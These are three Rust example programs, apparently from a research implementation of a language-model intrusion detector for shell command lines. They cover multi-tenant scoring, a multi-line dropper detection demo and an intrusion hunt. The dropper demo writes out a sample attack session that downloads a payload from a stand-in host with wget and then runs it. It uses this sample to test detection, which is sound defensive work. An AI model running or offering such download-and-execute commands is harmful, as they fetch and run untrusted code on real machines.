    let pipeline = IdsPipeline::pretrain(&config, &dataset, &mut rng);
    let ids = RuleIds::with_default_rules();
    let train_lines: Vec<String> = dataset.train.iter().map(|r| r.line.clone()).collect();
    let test_lines: Vec<String> = dedup_records(&dataset.test)
        .iter()
        .map(|r| r.line.clone())
        .collect();

    let tenant_config = TenantConfig {
        groups: shards,
        index: IndexConfig::hnsw().with_quant(quant),
        mem_budget,
        ..TenantConfig::default()
    };
    let tenants = Arc::new(
        TenantService::with_pipeline(pipeline.clone(), tenant_config).expect("valid config"),
    );

    let slice_of = |t: u64| -> &[String] {
        let start = (t as usize * LINES_PER_TENANT) % (train_lines.len() - LINES_PER_TENANT);
        &train_lines[start..start + LINES_PER_TENANT]
    };
    // The kNN detector needs at least one alerted exemplar; a small
    // slice may rule-match none, so each tenant pins its last line as
    // a known alert.
    let labels_of = |slice: &[String]| -> Vec<bool> {
        let mut labels: Vec<bool> = slice.iter().map(|l| ids.is_alert(l)).collect();
        if !labels.iter().any(|&l| l) {
            *labels.last_mut().expect("nonempty slice") = true;
        }
        labels
    };
    let t0 = Instant::now();
    for t in 0..TENANTS {
        let slice = slice_of(t);
        tenants
            .create_tenant(TenantId(t), slice, &labels_of(slice))
            .expect("tenant fits");
    }
    println!(
        "fitted {TENANTS} tenant partitions ({LINES_PER_TENANT} exemplars each) in {:.2?}",
        t0.elapsed()
    );

    // A global detector set for the shared front-end (the non-tenant
    // path keeps working beside the tenant map).
    let store = EmbeddingStore::new(&pipeline);
    let labels: Vec<bool> = train_lines.iter().map(|l| ids.is_alert(l)).collect();
    let global = ScoringEngine::new()
        .with_index_config(IndexConfig::hnsw().with_quant(quant))
        .register(Box::new(RetrievalMethod::new(1)))
        .register(Box::new(VanillaKnnMethod::new(3)))
        .fit(&store.view_of(&train_lines, Pooling::Mean), &labels)
        .expect("global detector set fits");
    let front = Frontend::spawn(
        pipeline.clone(),
        global,
        1,
        ServeConfig {
            queue_capacity: 128,
            max_batch: 32,
            batch_window: Duration::from_millis(1),
            workers: 2,
        },
    )
    .expect("front spawns")
    .with_cache(1024)
    .expect("cache attaches")
    .with_tenants(tenants.clone());

    // 2. Zipf-skewed tenant traffic through the cached front-end.
    let sampler = ZipfSampler::new(TENANTS as usize, 1.05);
    let mut traffic_rng = StdRng::seed_from_u64(23);
    let t0 = Instant::now();
    for _ in 0..DRAWS {
        let t = sampler.sample(&mut traffic_rng) as u64;
        let at = traffic_rng.gen_range(0..test_lines.len() - BATCH);
        let batch: Vec<String> = test_lines[at..at + BATCH].to_vec();
        front
            .score_tenant(TenantId(t), &batch)
            .expect("tenant scores");
    }
    let elapsed = t0.elapsed();
    let stats = tenants.stats();
    println!(
        "replayed {DRAWS} Zipf touches ({BATCH} lines each) in {elapsed:.2?} — \
         {} hot / {} cold, {} promotions, {} evictions, {:.1} KiB accounted vs {:.1} KiB budget",
        stats.hot,
        stats.cold,
        stats.promotions,
        stats.evictions,
        stats.accounted_bytes as f64 / 1024.0,
        mem_budget as f64 / 1024.0,
    );
    assert!(
        stats.evictions > 0,
        "budget of {mem_budget} B never forced an eviction — raise TENANTS or lower it"
    );
    assert!(
        stats.accounted_bytes <= mem_budget || stats.hot == 0,
        "over budget with hot tenants remaining"
    );

    // 3a. Tiering parity: a demoted-and-rebuilt tenant answers exactly
    //     like a dedicated single-tenant service that never tiered.
    let probe = TenantId(3);
    let queries: Vec<String> = test_lines[..8].to_vec();
    let dedicated = TenantService::with_pipeline(
        pipeline.clone(),
        TenantConfig {
            mem_budget: 1 << 30, // never evicts
            ..tenant_config
        },
    )
    .expect("valid config");
    let slice = slice_of(3);
    dedicated
        .create_tenant(probe, slice, &labels_of(slice))
        .expect("dedicated tenant fits");
    tenants.demote(probe).expect("demote succeeds");
    let tiered = tenants.score(probe, &queries).expect("tiered score");
    let alone = dedicated.score(probe, &queries).expect("dedicated score");
    assert_eq!(tiered, alone, "tiering changed verdict bytes");
    println!("tiering parity: demote → rebuild is bit-identical to a dedicated service ✓");

    // 3b. Whole-map persistence: restore loads every tenant cold and
    //     replays identical verdicts on first touch.
    let frame = tenants.snapshot().expect("snapshot succeeds").to_bytes();
    let restored = TenantService::restore(
        TenantMapSnapshot::from_bytes(&frame).expect("frame decodes"),
        Some(pipeline),
        tenant_config,
    )
    .expect("restore succeeds");
    let rstats = restored.stats();
    assert_eq!(rstats.hot, 0, "restored tenants start cold");
    let replayed = restored.score(probe, &queries).expect("restored score");
    assert_eq!(replayed, tiered, "restore changed verdict bytes");
    println!(
        "snapshot: {} tenants, {:.1} KiB frame → restored all-cold, verdicts bit-identical ✓",
        rstats.tenants,
        frame.len() as f64 / 1024.0,
    );

    front.shutdown();
    println!("done.");
}
