//! Multi-line context detection: the Section IV-C motivating scenario.
//!
//! `wget -c http://…/payload -o python` followed by `python` — each line
//! alone looks mundane; together they are a dropper. This example tunes
//! both the single-line and the multi-line classifier and compares their
//! scores on exactly that session.
//!
//! Run with: `cargo run --release --example multiline_dropper`

use cmdline_ids::pipeline::{IdsPipeline, PipelineConfig};
use cmdline_ids::tuning::{build_windows, ClassificationTuner, MultiLineClassifier, TuneConfig};
use corpus::{GroundTruth, LogRecord};
use ids_rules::RuleIds;
use rand::rngs::StdRng;
use rand::SeedableRng;

fn main() {
    let mut rng = StdRng::seed_from_u64(2024);
    let mut config = PipelineConfig::experiment();
    config.attack_prob = 0.2;
    let dataset = config.generate_dataset(&mut rng);
    println!("pre-training on {} lines…", dataset.train.len());
    let pipeline = IdsPipeline::pretrain(&config, &dataset, &mut rng);

    let ids = RuleIds::with_default_rules();
    let train_lines: Vec<&str> = dataset.train.iter().map(|r| r.line.as_str()).collect();
    // The signature IDS is silent on every line of the dropper chain —
    // that is the point of the scenario. To give the tuners a training
    // signal for such chains, enrich the supervision with ground truth,
    // playing the role of the richer alert sources (analyst reports,
    // post-incident labels) a production deployment accumulates.
    let labels: Vec<bool> = dataset
        .train
        .iter()
        .map(|r| ids.is_alert(&r.line) || r.truth.is_malicious())
        .collect();

    println!("tuning single-line classifier…");
    let single = ClassificationTuner::fit(
        &pipeline,
        &train_lines,
        &labels,
        &TuneConfig::scaled(),
        &mut rng,
    );
    println!("tuning multi-line classifier (3-line context)…");
    let multi = MultiLineClassifier::fit(
        &pipeline,
        &dataset.train,
        &labels,
        3,
        600,
        &TuneConfig::scaled(),
        &mut rng,
    );

    // The dropper session, staged as one user's recent history.
    let session: Vec<LogRecord> = [
        "cd /tmp",
        "wget -c http://update-cdn.xyz/payload -o python",
        "python",
    ]
    .iter()
    .enumerate()
    .map(|(i, line)| LogRecord {
        user: 9,
        timestamp: 1000 + 30 * i as u64,
        line: line.to_string(),
        truth: GroundTruth::Benign, // irrelevant here
    })
    .collect();

    let windows = build_windows(&session, 3, 600);
    let multi_scores = multi.score_records(&pipeline, &session);

    println!();
    println!(
        "{:<52} {:>8} {:>8} {:>8}",
        "command line", "IDS", "single", "multi"
    );
    for (i, record) in session.iter().enumerate() {
        let s_single = single.score(&pipeline, &record.line);
        println!(
            "{:<52} {:>8} {:>8.3} {:>8.3}   (context: {:?})",
            record.line,
            if ids.is_alert(&record.line) {
                "ALERT"
            } else {
                "silent"
            },
            s_single,
            multi_scores[i],
            windows[i].lines
        );
    }

    // The controlled contrast: the *same* target line under a benign
    // workflow context. Only the multi-line method can tell them apart.
    let benign_session: Vec<LogRecord> = ["cd /home/dev/project", "ls -la", "python"]
        .iter()
        .enumerate()
        .map(|(i, line)| LogRecord {
            user: 10,
            timestamp: 2000 + 30 * i as u64,
            line: line.to_string(),
            truth: GroundTruth::Benign,
        })
        .collect();
    let benign_multi = multi.score_records(&pipeline, &benign_session);

    println!();
    println!("same target, different context:");
    println!(
        "  `python` after [cd /home/dev/project, ls -la]  → multi {:.3}",
        benign_multi[2]
    );
    println!(
        "  `python` after [cd /tmp, wget … -o python]     → multi {:.3}",
        multi_scores[2]
    );
    println!();
    println!("the single-line view cannot distinguish these two `python`");
    println!("invocations at all; the window inherits the dropper context");
    println!("(paper Section IV-C).");
}
