//! Out-of-box intrusion hunt: the paper's headline use case.
//!
//! The enterprise already runs a commercial IDS. This example tunes the
//! language-model classifier on that IDS's (noisy) alerts, calibrates
//! the detection threshold to keep recalling everything the IDS finds,
//! and then *hunts*: it ranks the test window and prints the incidents
//! the commercial IDS missed — the "out-of-box" intrusions that give the
//! paper its >83% PO.
//!
//! Run with: `cargo run --release --example hunt_out_of_box`

use cmdline_ids::metrics::{calibrate_threshold, ScoredSample};
use cmdline_ids::pipeline::{IdsPipeline, PipelineConfig};
use cmdline_ids::tuning::{ClassificationTuner, TuneConfig};
use corpus::dedup_records;
use ids_rules::RuleIds;
use rand::rngs::StdRng;
use rand::SeedableRng;

fn main() {
    let mut rng = StdRng::seed_from_u64(1729);
    let config = PipelineConfig::experiment();
    let dataset = config.generate_dataset(&mut rng);
    println!("pre-training on {} lines…", dataset.train.len());
    let pipeline = IdsPipeline::pretrain(&config, &dataset, &mut rng);

    let ids = RuleIds::with_default_rules();
    let train_lines: Vec<&str> = dataset.train.iter().map(|r| r.line.as_str()).collect();
    let train_labels: Vec<bool> = train_lines.iter().map(|l| ids.is_alert(l)).collect();
    println!(
        "tuning on {} IDS alerts…",
        train_labels.iter().filter(|&&y| y).count()
    );
    let tuner = ClassificationTuner::fit(
        &pipeline,
        &train_lines,
        &train_labels,
        &TuneConfig::scaled(),
        &mut rng,
    );

    // Score the de-duplicated test window.
    let test = dedup_records(&dataset.test);
    let refs: Vec<&str> = test.iter().map(|r| r.line.as_str()).collect();
    let scores = tuner.score_lines(&pipeline, &refs);
    let samples: Vec<ScoredSample> = test
        .iter()
        .zip(&scores)
        .map(|(r, &score)| ScoredSample {
            score,
            malicious: r.truth.is_malicious(),
            in_box: ids.is_alert(&r.line),
        })
        .collect();

    // Calibrate to keep 100% of what the commercial IDS already catches.
    let threshold = calibrate_threshold(&samples, 1.0).expect("test window has IDS alerts");
    println!("threshold for 100% in-box recall: {threshold:.4}");

    // The hunt: highest-scoring lines the commercial IDS is silent on.
    let mut hunt: Vec<(f32, &corpus::LogRecord)> = test
        .iter()
        .zip(&scores)
        .filter(|(r, &s)| s >= threshold && !ids.is_alert(&r.line))
        .map(|(r, &s)| (s, r))
        .collect();
    hunt.sort_by(|a, b| b.0.partial_cmp(&a.0).unwrap());

    println!();
    println!("out-of-box findings (missed by the commercial IDS):");
    let mut hits = 0;
    for (score, record) in hunt.iter().take(15) {
        let tag = match record.truth {
            corpus::GroundTruth::Malicious { family, .. } => {
                hits += 1;
                format!("CONFIRMED {family}")
            }
            _ => "false alarm".to_string(),
        };
        println!("  {score:.3}  {:<22}  {}", tag, record.line);
    }
    println!();
    println!(
        "top-{} out-of-box precision: {:.0}%",
        hunt.len().min(15),
        100.0 * hits as f64 / hunt.len().clamp(1, 15) as f64
    );
}
